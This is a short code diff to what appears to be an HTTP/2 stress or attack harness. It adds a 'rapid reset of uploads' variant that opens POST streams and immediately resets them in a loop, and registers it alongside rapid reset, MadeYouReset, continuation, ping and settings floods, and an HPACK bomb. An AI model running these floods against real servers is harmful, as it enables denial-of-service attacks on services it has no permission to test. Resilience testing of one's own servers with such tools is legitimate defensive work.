@@ -26,6 +26,13 @@ def rapid_reset(attacker, authority):
             return
 
 
+def rapid_reset_of_uploads(attacker, authority):
+    head = request(authority, method=b"POST")
+    for stream in numbers():
+        if not attacker.send(headers(stream, head, end=False) + frame(DATA, 0, stream, b"x") + frame(RST, 0, stream, b"\0\0\0\x08")):
+            return
+
+
 def made_you_reset(attacker, authority):
     head = request(authority)
     for stream in numbers():
@@ -66,8 +73,8 @@ def hpack_bomb(attacker, authority):
             return
 
 
-KINDS = {rapid_reset: "resets", made_you_reset: "resets", continuations: "continuations", settings: "control",
-         pings: "control", empty_data: "control", hpack_bomb: "header_list"}
+KINDS = {rapid_reset: "resets", rapid_reset_of_uploads: "resets", made_you_reset: "resets", continuations: "continuations",
+         settings: "control", pings: "control", empty_data: "control", hpack_bomb: "header_list"}
 
 
 def sink():
